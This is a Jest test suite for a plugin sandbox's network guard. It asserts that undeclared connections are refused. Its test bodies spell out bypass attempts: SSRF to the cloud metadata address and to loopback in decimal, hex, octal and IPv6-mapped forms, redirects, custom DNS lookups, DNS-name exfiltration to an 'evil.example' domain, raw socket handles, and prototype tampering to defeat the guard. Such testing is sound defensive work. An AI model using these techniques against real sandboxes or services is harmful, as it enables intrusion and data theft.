import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
import { join } from 'node:path';
import { ProcessBench, translatorOf } from '../kit/plugin-bench';

jest.setTimeout(60_000);

/** Plugins that want to go where they did not say they would. `declared` and `secret` are on this machine, which the operator opened. */
let opened: ProcessBench;
let closed: ProcessBench;
let declared: Server;
let secret: Server;
let heard: string[];
let count = 0;

const portOf = (server: { address(): unknown }) => (server.address() as AddressInfo).port;
const listen = async (name: string, host = '127.0.0.1') => {
  const server = createServer((request, response) => {
    heard.push(name);
    if (request.url === '/away') response.writeHead(302, { location: `http://127.0.0.1:${portOf(secret)}/` });
    response.end('vendor');
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return server;
};

beforeAll(async () => {
  opened = new ProcessBench({ PLUGIN_PRIVATE_NETWORK: '127.0.0.1,::1' }, { failures: 1000 });
  closed = new ProcessBench({}, { failures: 1000 });
  declared = await listen('declared');
  secret = await listen('secret');
});
beforeEach(() => (heard = []));
afterAll(async () => {
  await Promise.all([opened.close(), closed.close()]);
  declared.close();
  secret.close();
});

/** The text that the plugin ends with, or the code of what it ran into. */
async function tries(bench: ProcessBench, body: string, network: string[] = [], before = '') {
  const caught = 'const codeOf = (e) => `${e?.code ?? e?.cause?.code ?? e?.errors?.[0]?.code ?? e?.message}`;';
  const script = translatorOf(`try { ${body} } catch (e) { return { texts: [codeOf(e)] } }`, `${caught} ${before}`);
  const plugin = bench.plugin(`translate-net-${++count}`, script, { network });
  const { texts } = (await bench.call(plugin)) as { texts: string[] };
  return { said: texts[0], refused: bench.processes.stateOf('w1', plugin.id).refusedHosts };
}
const get = (url: string) => `return { texts: [await (await fetch(${JSON.stringify(url)})).text()] };`;
const connect = (options: string) =>
  `return { texts: [await new Promise((resolve, reject) => require("node:net").connect(${options}, () => resolve("through")).on("error", reject))] };`;

describe('what it declared', () => {
  it.each([
    ['fetch', () => get(`http://localhost:${portOf(declared)}/`)],
    [
      'http',
      () =>
        `return { texts: [await new Promise((r, j) => require("node:http").get("http://localhost:${portOf(declared)}/", (a) => a.on("data", (d) => r(String(d)))).on("error", j))] };`,
    ],
    [
      'http, kept alive',
      () =>
        `const http = require("node:http"); const agent = new http.Agent({ keepAlive: true }); return { texts: [await new Promise((r, j) => http.get({ host: "LOCALHOST", port: ${portOf(declared)}, agent }, (a) => a.on("data", (d) => r(String(d)))).on("error", j))] };`,
    ],
    [
      'an imported module',
      () =>
        `const { connect } = await import("node:net"); return { texts: [await new Promise((r, j) => connect(${portOf(declared)}, "localhost", () => r("vendor")).on("error", j))] };`,
    ],
    [
      'a name and then its address',
      () =>
        `const { address } = await require("node:dns").promises.lookup("localhost", { family: 4 }); ${connect(`{ host: address, port: ${portOf(declared)} }`).replace('"through"', '"vendor"')}`,
    ],
  ])('is reached: %s', async (_what, body) => {
    expect(await tries(opened, body(), [`localhost:${portOf(declared)}`])).toEqual({ said: 'vendor', refused: [] });
  });

  it('and is in the private network is not, unless the operator opened it', async () => {
    const { said, refused } = await tries(closed, get(`http://localhost:${portOf(declared)}/`), [
      `localhost:${portOf(declared)}`,
    ]);
    expect(said).toBe('ERR_PLUGIN_REFUSED');
    expect(refused).toEqual(['localhost (not public)']);
    expect(heard).toEqual([]);
  });

  it.each(['127.0.0.1', '[::1]', '169.254.169.254', '10.0.0.1', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]'])(
    'and is the address %s is not',
    async (host) => {
      const port = portOf(declared);
      expect((await tries(closed, get(`http://${host}:${port}/`), [`${host}:${port}`])).said).toBe('ERR_PLUGIN_REFUSED');
      expect(heard).toEqual([]);
    },
  );
});

describe('what it did not declare is refused', () => {
  const p = () => portOf(secret);
  it.each<[string, () => string]>([
    ['fetch', () => get(`http://localhost:${p()}/`)],
    ['the metadata service', () => get('http://169.254.169.254/latest/meta-data/')],
    ['decimal', () => get(`http://2130706433:${p()}/`)],
    ['hexadecimal', () => get(`http://0x7f000001:${p()}/`)],
    ['octal', () => get(`http://0177.0.0.1:${p()}/`)],
    ['decimal, past the parser', () => connect(`{ host: "2130706433", port: ${p()} }`)],
    ['short', () => connect(`{ host: "127.1", port: ${p()} }`)],
    ['inside of IPv6', () => connect(`{ host: "::ffff:127.0.0.1", port: ${p()} }`)],
    ['nothing but a port', () => connect(`${p()}`)],
    [
      'a socket made by hand',
      () =>
        `const s = new (require("node:net").Socket)(); return { texts: [await new Promise((r, j) => s.on("error", j).connect(${p()}, "127.0.0.1", () => r("through")))] };`,
    ],
    [
      'TLS',
      () =>
        `return { texts: [await new Promise((r, j) => require("node:tls").connect({ host: "127.0.0.1", port: ${p()} }, () => r("through")).on("error", j))] };`,
    ],
    [
      'HTTP/2',
      () =>
        `return { texts: [await new Promise((r, j) => require("node:http2").connect("http://127.0.0.1:${p()}").on("remoteSettings", () => r("through")).on("error", j))] };`,
    ],
    [
      'a lookup of its own',
      () =>
        connect(
          `{ host: "localhost", port: ${p()}, lookup: (h, o, cb) => cb(null, o.all ? [{ address: "127.0.0.1", family: 4 }] : "127.0.0.1", 4) }`,
        ),
    ],
    [
      'a host that changes while it is read',
      () =>
        `let n = 0; ${connect(`{ get host() { return n++ ? "127.0.0.1" : "localhost" }, get port() { return n > 1 ? ${p()} : ${portOf(declared)} } }`)}`,
    ],
    ['a redirect', () => get(`http://localhost:${portOf(declared)}/away`)],
    ['the declared host at another port', () => get(`http://localhost:${p()}/`)],
    [
      'a name as a message',
      () => 'return { texts: [String(await require("node:dns").promises.lookup("ana-example-org.evil.example"))] };',
    ],
    [
      'a name as a message, resolved',
      () => 'return { texts: [String(await new (require("node:dns").promises.Resolver)().resolveTxt("ana.evil.example"))] };',
    ],
    ['a name server of its own', () => 'require("node:dns").setServers(["127.0.0.1"]); return { texts: ["through"] };'],
    ['a reverse question', () => 'return { texts: [String(await require("node:dns").promises.reverse("9.9.9.9"))] };'],
    ['UDP', () => 'require("node:dgram").createSocket("udp4").send("x", 53, "127.0.0.1"); return { texts: ["through"] };'],
    ['UDP, imported', () => '(await import("node:dgram")).createSocket("udp4"); return { texts: ["through"] };'],
  ])('%s', async (_what, body) => {
    const { said, refused } = await tries(opened, body(), [`localhost:${portOf(declared)}`]);
    expect(said).toMatch(/^(ERR_PLUGIN_REFUSED|EACCES)$/);
    expect(refused.length).toBeGreaterThan(0);
    expect(heard).not.toContain('secret');
  });

  it('a Unix socket', async () => {
    const path = join(opened.folder.path, 'database.sock');
    const visitors: Socket[] = [];
    const server = createTcpServer((socket) => visitors.push(socket));
    await new Promise<void>((resolve) => server.listen(path, resolve));
    for (const options of [JSON.stringify(path), JSON.stringify({ path })])
      expect((await tries(opened, connect(options))).said).toBe('ERR_PLUGIN_REFUSED');
    expect(visitors).toEqual([]);
    server.close();
  });

  it('a plugin sees a failed call as "host"', async () => {
    const plugin = opened.plugin('translate-open', translatorOf(`${get('http://evil.example/')}`));
    await expect(opened.call(plugin)).rejects.toMatchObject({ trouble: 'host', retry: false });
    expect(opened.processes.stateOf('w1', plugin.id).refusedHosts).toEqual(['evil.example:80']);
  });
});

describe('a plugin that works on the guard itself', () => {
  const p = () => portOf(secret);
  const handle =
    'const net = require("node:net"); const s = new net.Socket(); s.on("error", () => {}); s.connect({ host: "localhost", port: DECLARED });';

  it.each<[string, () => string, string?]>([
    [
      'puts the former functions back',
      () => `const net = require("node:net"); net.Socket.prototype.connect = function () {}; ${connect(`${p()}`)}`,
    ],
    ['deletes the guarded ones', () => `delete require("node:net").Socket.prototype.connect; ${connect(`${p()}`)}`],
    ['loads the module again', () => `const m = require("node:module"); m._cache = {}; ${connect(`${p()}`)}`],
    [
      'says yes to every question',
      () => connect(`{ host: "127.0.0.1", port: ${p()} }`),
      'Array.prototype.includes = Array.prototype.some = Map.prototype.has = Set.prototype.has = RegExp.prototype.test = String.prototype.endsWith = String.prototype.startsWith = () => true;',
    ],
    [
      'makes every name the declared one',
      () => connect(`{ host: "127.0.0.1", port: ${p()} }`),
      'String.prototype.toLowerCase = () => "localhost"; globalThis.String = () => "localhost"; globalThis.Number = () => 443;',
    ],
    [
      'catches the guarded functions on their way',
      () => `${connect(`{ host: "127.0.0.1", port: ${p()} }`)}`,
      'let real; for (const name of ["call", "apply", "bind"]) { const f = Function.prototype[name]; Function.prototype[name] = function (...a) { if (this.name === "connect") real = this; return Reflect.apply(f, this, a); }; } Reflect.apply = ((f) => function (g, t, a) { return f(g, t, a) })(Reflect.apply);',
    ],
    [
      'goes past Socket, to the handle',
      () =>
        `${handle} const { constructor: TCP } = s._handle; return { texts: [await new Promise((resolve) => { const request = { oncomplete: (status) => resolve(status === 0 ? "through" : "EACCES") }; try { const status = new TCP(0).connect(request, "127.0.0.1", ${p()}); if (status) resolve(status === -13 ? "EACCES" : String(status)); } catch (error) { resolve("EACCES"); } })] };`,
    ],
    [
      'replaces what the handle does',
      () =>
        `${handle} try { "use strict"; Object.defineProperty(Object.getPrototypeOf(s._handle), "connect", { value() {} }); return { texts: ["through"] }; } catch { return { texts: ["EACCES"] }; }`,
    ],
    [
      'plants an address among the admitted',
      () => connect(`{ host: "127.0.0.1", port: ${p()} }`),
      'Object.defineProperty(Object.prototype, "127.0.0.1 " + PORT, { value: true });',
    ],
  ])('%s gets no further', async (_what, body, before = '') => {
    const port = portOf(declared);
    const { said } = await tries(
      opened,
      body().replaceAll('DECLARED', String(port)),
      [`localhost:${port}`],
      before.replaceAll('PORT', String(p())),
    );
    expect(said).toMatch(/^(ERR_PLUGIN_REFUSED|EACCES)$/);
    expect(heard).not.toContain('secret');
  });
});

it('nobody hears a datagram', async () => {
  const ear = createSocket('udp4');
  const datagrams: string[] = [];
  ear.on('message', (message) => datagrams.push(String(message)));
  await new Promise<void>((resolve) => ear.bind(0, '127.0.0.1', resolve));
  const port = (ear.address() as AddressInfo).port;
  await tries(
    opened,
    `const d = require("node:dgram"); try { new d.Socket("udp4").send("x", ${port}, "127.0.0.1"); } catch {} d.createSocket("udp4").send("x", ${port}, "127.0.0.1"); return { texts: ["through"] };`,
    [`127.0.0.1:${port}`],
  );
  expect(datagrams).toEqual([]);
  ear.close();
});
